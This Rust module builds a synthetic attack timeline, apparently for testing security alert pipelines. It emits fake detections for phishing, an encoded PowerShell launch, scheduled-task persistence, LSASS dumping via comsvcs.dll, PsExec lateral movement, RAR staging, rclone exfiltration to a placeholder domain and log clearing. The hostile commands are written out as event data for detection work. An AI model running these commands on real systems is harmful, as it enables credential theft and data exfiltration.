//! The attack, step by step. Times are seconds from the start; no machine of it is silent for an hour, since that is
//! how long its name and its address hold a case together.

mod rules;

use serde_json::{Value, json};

use super::Scene;
use super::cast::{
    ARCHIVE_SHA256, BEACON_ADDRESS, BEACON_DOMAIN, DROP_ADDRESS, DROP_DOMAIN, FILE_SERVER, HELPDESK, IMPLANT_SHA256,
    LURE_SENDER, LURE_SHA256, VICTIM, WORKSTATION,
};
use super::products::{Flow, Native, connection, process};
use rules::{
    ADMIN_SHARE, BASE64_SHELL, BEACON, COMSVCS_DUMP, DOMAIN_TRUST, ENCODED_COMMAND, EXPLICIT_LOGON, FILE_ADDED,
    FILE_DELETED, FILE_SEARCH, GROUP_RECON, LARGE_UPLOAD, LOCAL_ACCOUNTS, LOG_CLEARED, LSASS_ACCESS, LSASS_READ,
    OFFICE_CHILD, OVERPASS, RAR, RCLONE, RCLONE_CONNECTS, ROOT_SERVICE, SCHEDULED_TASK, SELF_SIGNED, SERVICE_INSTALLED,
    SHARING_SITE, SHELL_CONNECTS, SMB_EXECUTABLE,
};

const MINUTE: u32 = 60;

const WINWORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const IMPLANT: &str = r"C:\Users\j.doe\AppData\Roaming\WeatherWidget\widget.exe";
const SHELL_GUID: &str = "{9c1d7a52-4be0-6926-2f03-000000001a00}";
const IMPLANT_GUID: &str = "{9c1d7a52-4c21-6926-3803-000000001a00}";
const VICTIM_LOGON: &str = "0x6a3f1";
const HELPDESK_LOGON: &str = "0x2b90e4c";
/// The last beacon, and the time between two of them.
const BEACONS_END: u32 = 330 * MINUTE;
const BEACON_EVERY: u32 = 13 * MINUTE;

pub(super) fn play(scene: &mut Scene) {
    phish(scene);
    macro_runs(scene);
    beacon(scene);
    look_around(scene);
    dump_credentials(scene);
    move_to_the_file_server(scene);
    collect(scene);
    exfiltrate(scene);
}

fn phish(scene: &mut Scene) {
    let message = "<20260112.0947.4471@invoice-desk.example>";
    let to_victim = json!([{ "kind": "mailbox", "id": "j.doe@corp.example", "role": "asset" },
        { "kind": "user", "name": VICTIM, "domain": "CORP", "role": "asset" }]);
    let lure = json!([{ "type": "email", "value": LURE_SENDER, "role": "source" },
        { "type": "message_id", "value": message, "role": "peer" },
        { "type": "file_name", "value": "Invoice_4471.docm", "role": "peer" },
        { "type": "hash", "value": LURE_SHA256, "role": "peer" }]);
    let alert = |title, severity_id, rule| Native {
        title,
        severity_id,
        rule,
        attack: ("TA0001", "T1566.001"),
        entities: to_victim.clone(),
        observables: lure.clone(),
    };
    scene.mail(38 * MINUTE, alert("Attachment with macros delivered from a new sender", 3, "MG-2107"));
    scene.mail(55 * MINUTE, alert("Message reported as phishing by its recipient", 3, "MG-3001"));
}

fn macro_runs(scene: &mut Scene) {
    let opened = format!("\"{WINWORD}\" /n \"C:\\Users\\j.doe\\Downloads\\Invoice_4471.docm\"");
    let encoded = "powershell.exe -nop -w hidden -enc UwB0AGEAcgB0AC0AUwBsAGUAZQBwACAALQBzACAANQA=";
    let child = process(VICTIM, POWERSHELL, encoded, &opened, VICTIM_LOGON, SHELL_GUID);
    scene.hayabusa(52 * MINUTE, &WORKSTATION, &OFFICE_CHILD, &child);
    scene.hayabusa(52 * MINUTE + 1, &WORKSTATION, &BASE64_SHELL, &child);
    scene.wazuh_windows(
        52 * MINUTE + 2,
        &WORKSTATION,
        &ENCODED_COMMAND,
        &sysmon("1"),
        &json!({
            "processGuid": SHELL_GUID, "image": doubled(POWERSHELL), "commandLine": encoded,
            "user": format!("CORP\\\\{VICTIM}"), "logonId": VICTIM_LOGON, "parentImage": doubled(WINWORD),
        }),
    );
    let out = connection(VICTIM, POWERSHELL, SHELL_GUID, &WORKSTATION, (BEACON_ADDRESS, 443));
    scene.hayabusa(53 * MINUTE, &WORKSTATION, &SHELL_CONNECTS, &out);
    let task = format!("schtasks /create /sc onlogon /tn WeatherWidget /tr \"{IMPLANT}\"");
    let task = process(VICTIM, r"C:\Windows\System32\schtasks.exe", &task, encoded, VICTIM_LOGON, SHELL_GUID);
    scene.hayabusa(58 * MINUTE, &WORKSTATION, &SCHEDULED_TASK, &task);
    scene.wazuh(59 * MINUTE, &WORKSTATION, &FILE_ADDED, &file_added(IMPLANT, IMPLANT_SHA256));
}

fn beacon(scene: &mut Scene) {
    let tls = json!({ "tls": { "subject": "CN=weather-widget.example", "issuerdn": "CN=weather-widget.example",
        "sni": BEACON_DOMAIN, "version": "TLS 1.2", "ja3": { "hash": "72a589da586844d7f0818ce684948eea" } } });
    let flow = |up_bytes| Flow {
        source: (WORKSTATION.address, 50_412),
        destination: (BEACON_ADDRESS, 443),
        protocol: "TCP",
        up_bytes,
    };
    scene.suricata(54 * MINUTE, &flow(2_140), &SELF_SIGNED, &tls);
    let mut second = 60 * MINUTE;
    while second < BEACONS_END {
        scene.suricata(second, &flow(1_320), &BEACON, &tls);
        second += BEACON_EVERY;
    }
}

fn look_around(scene: &mut Scene) {
    let run = |image: &str, command: &str| process(VICTIM, image, command, IMPLANT, VICTIM_LOGON, IMPLANT_GUID);
    let net = r"C:\Windows\System32\net.exe";
    scene.hayabusa(75 * MINUTE, &WORKSTATION, &LOCAL_ACCOUNTS, &run(net, "net user /domain"));
    scene.hayabusa(76 * MINUTE, &WORKSTATION, &GROUP_RECON, &run(net, "net group \"Domain Admins\" /domain"));
    let nltest = r"C:\Windows\System32\nltest.exe";
    scene.hayabusa(77 * MINUTE, &WORKSTATION, &DOMAIN_TRUST, &run(nltest, "nltest /domain_trusts /all_trusts"));
    scene.endpoint(
        100 * MINUTE,
        Native {
            title: "Code injected into a process of the user's session",
            severity_id: 4,
            rule: "ES-0455",
            attack: ("TA0005", "T1055"),
            entities: on_machine(WORKSTATION.name, VICTIM, IMPLANT_GUID),
            observables: json!([{ "type": "hash", "value": IMPLANT_SHA256, "role": "peer" },
            { "type": "ip", "value": WORKSTATION.address, "role": "source" }]),
        },
    );
}

fn dump_credentials(scene: &mut Scene) {
    let lsass = r"C:\Windows\System32\lsass.exe";
    let access = json!({ "SrcProc": IMPLANT, "TgtProc": lsass, "SrcUser": "CORP\\j.doe",
        "TgtUser": "NT AUTHORITY\\SYSTEM", "Access": "0x1410", "SrcPID": 6_120, "SrcPGUID": IMPLANT_GUID, "TgtPID": 708,
        "TgtPGUID": "n/a" });
    scene.hayabusa(118 * MINUTE, &WORKSTATION, &LSASS_ACCESS, &access);
    let command = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 708 C:\ProgramData\w.bin full";
    let image = r"C:\Windows\System32\rundll32.exe";
    let dump = process(VICTIM, image, command, IMPLANT, VICTIM_LOGON, IMPLANT_GUID);
    scene.hayabusa(118 * MINUTE + 20, &WORKSTATION, &COMSVCS_DUMP, &dump);
    scene.wazuh_windows(
        119 * MINUTE,
        &WORKSTATION,
        &LSASS_READ,
        &sysmon("10"),
        &json!({
            "sourceProcessGUID": IMPLANT_GUID, "sourceImage": doubled(IMPLANT), "targetImage": doubled(lsass),
            "grantedAccess": "0x1410", "sourceUser": format!("CORP\\\\{VICTIM}"),
        }),
    );
    scene.endpoint(
        120 * MINUTE,
        Native {
            title: "Memory of the logon service written to a file",
            severity_id: 5,
            rule: "ES-0101",
            attack: ("TA0006", "T1003.001"),
            entities: on_machine(WORKSTATION.name, VICTIM, IMPLANT_GUID),
            observables: json!([{ "type": "file_path", "value": "C:\\ProgramData\\w.bin", "role": "peer" },
            { "type": "ip", "value": WORKSTATION.address, "role": "source" }]),
        },
    );
}

fn move_to_the_file_server(scene: &mut Scene) {
    let (from, to) = (WORKSTATION.address, FILE_SERVER.address);
    scene.hayabusa(
        150 * MINUTE,
        &WORKSTATION,
        &EXPLICIT_LOGON,
        &json!({ "TgtUser": HELPDESK, "SrcUser": VICTIM,
        "TgtSvr": FILE_SERVER.name, "Proc": IMPLANT, "LID": VICTIM_LOGON, "SrcIP": "-" }),
    );
    let share = Flow { source: (from, 50_877), destination: (to, 445), protocol: "TCP", up_bytes: 184_320 };
    let smb = json!({ "smb": { "command": "SMB2_COMMAND_CREATE", "filename": "PSEXESVC.exe", "share": "\\\\FS-02\\ADMIN$" } });
    scene.suricata(151 * MINUTE, &share, &SMB_EXECUTABLE, &smb);
    scene.hayabusa(
        151 * MINUTE + 5,
        &FILE_SERVER,
        &OVERPASS,
        &json!({ "Type": "3 - NETWORK", "TgtUser": HELPDESK,
        "SrcComp": WORKSTATION.name, "SrcIP": from, "LID": HELPDESK_LOGON }),
    );
    scene.hayabusa(
        152 * MINUTE,
        &FILE_SERVER,
        &ADMIN_SHARE,
        &json!({ "SrcUser": HELPDESK, "ShareName": "\\\\*\\ADMIN$",
        "SharePath": "\\??\\C:\\Windows", "Path": "PSEXESVC.exe", "SrcIP": from, "LID": HELPDESK_LOGON }),
    );
    scene.hayabusa(
        152 * MINUTE + 9,
        &FILE_SERVER,
        &SERVICE_INSTALLED,
        &json!({ "Svc": "PSEXESVC",
        "Path": "%SystemRoot%\\PSEXESVC.exe", "Acct": "LocalSystem", "StartType": "demand start" }),
    );
    scene.wazuh_windows(
        153 * MINUTE,
        &FILE_SERVER,
        &ROOT_SERVICE,
        &json!({ "providerName": "Service Control Manager",
        "eventID": "7045", "channel": "System" }),
        &json!({ "serviceName": "PSEXESVC",
        "imagePath": "%SystemRoot%\\\\PSEXESVC.exe", "accountName": "LocalSystem" }),
    );
}

fn collect(scene: &mut Scene) {
    let run = |image: &str, command: &str, guid: &str| {
        process(HELPDESK, image, command, "PSEXESVC.exe", HELPDESK_LOGON, guid)
    };
    let find = run(r"C:\Windows\System32\cmd.exe", r"cmd.exe /c dir /s /b E:\Shares\Finance\*.xlsx", STAGE_GUIDS[0]);
    scene.hayabusa(171 * MINUTE, &FILE_SERVER, &FILE_SEARCH, &find);
    scene.endpoint(
        195 * MINUTE,
        Native {
            title: "Unusual number of documents read by one account",
            severity_id: 3,
            rule: "ES-0720",
            attack: ("TA0009", "T1039"),
            entities: on_machine(FILE_SERVER.name, HELPDESK, STAGE_GUIDS[0]),
            observables: json!([{ "type": "ip", "value": FILE_SERVER.address, "role": "source" }]),
        },
    );
    let pack = r"rar.exe a -hp -m5 C:\ProgramData\q4.rar E:\Shares\Finance";
    scene.hayabusa(214 * MINUTE, &FILE_SERVER, &RAR, &run(r"C:\ProgramData\rar.exe", pack, STAGE_GUIDS[1]));
    scene.wazuh(240 * MINUTE, &FILE_SERVER, &FILE_ADDED, &file_added(r"C:\ProgramData\q4.rar", ARCHIVE_SHA256));
}

const STAGE_GUIDS: [&str; 3] = [
    "{41b7e0c3-6510-6926-7702-000000000c00}",
    "{41b7e0c3-6f0a-6926-9102-000000000c00}",
    "{41b7e0c3-7a55-6926-a402-000000000c00}",
];

fn exfiltrate(scene: &mut Scene) {
    let tls = json!({ "tls": { "subject": "CN=*.quick-share.example", "issuerdn": "C=XX, O=Example CA, CN=Example R3",
        "sni": DROP_DOMAIN, "version": "TLS 1.3" } });
    let flow = |up_bytes| Flow {
        source: (FILE_SERVER.address, 61_202),
        destination: (DROP_ADDRESS, 443),
        protocol: "TCP",
        up_bytes,
    };
    let command = r"rclone.exe copy C:\ProgramData\q4.rar drop:q4 --transfers 4";
    let image = r"C:\Users\Public\rclone.exe";
    let copy = process(HELPDESK, image, command, "PSEXESVC.exe", HELPDESK_LOGON, STAGE_GUIDS[2]);
    scene.hayabusa(262 * MINUTE, &FILE_SERVER, &RCLONE, &copy);
    scene.suricata(262 * MINUTE + 8, &flow(9_100), &SHARING_SITE, &tls);
    let out = connection(HELPDESK, image, STAGE_GUIDS[2], &FILE_SERVER, (DROP_ADDRESS, 443));
    scene.hayabusa(262 * MINUTE + 9, &FILE_SERVER, &RCLONE_CONNECTS, &out);
    for minute in [275, 290, 304] {
        scene.suricata(minute * MINUTE, &flow(734_003_200), &LARGE_UPLOAD, &tls);
    }
    let gone = process(
        HELPDESK,
        r"C:\Windows\System32\cmd.exe",
        r"cmd.exe /c del C:\ProgramData\q4.rar",
        "PSEXESVC.exe",
        HELPDESK_LOGON,
        STAGE_GUIDS[2],
    );
    scene.hayabusa(308 * MINUTE, &FILE_SERVER, &FILE_DELETED, &gone);
    scene.hayabusa(312 * MINUTE, &FILE_SERVER, &LOG_CLEARED, &json!({ "User": HELPDESK, "LID": HELPDESK_LOGON }));
}

fn on_machine(host: &str, user: &str, process: &str) -> Value {
    json!([{ "kind": "host", "id": host, "role": "asset" },
        { "kind": "user", "name": user, "domain": "CORP", "role": "actor" },
        { "kind": "process", "id": process, "role": "actor" }])
}

fn sysmon(event: &str) -> Value {
    json!({ "providerName": "Microsoft-Windows-Sysmon", "eventID": event,
        "channel": "Microsoft-Windows-Sysmon/Operational" })
}

fn file_added(path: &str, sha256: &str) -> Value {
    json!({ "decoder": { "name": "syscheck_new_entry" }, "location": "syscheck",
        "full_log": format!("File '{}' added\nMode: realtime\n", path.to_lowercase()),
        "syscheck": { "path": path.to_lowercase(), "mode": "realtime", "event": "added", "size_after": "486912",
            "sha256_after": sha256 } })
}

/// The Windows agent writes each backslash of an event twice.
fn doubled(path: &str) -> String {
    path.replace('\\', "\\\\")
}
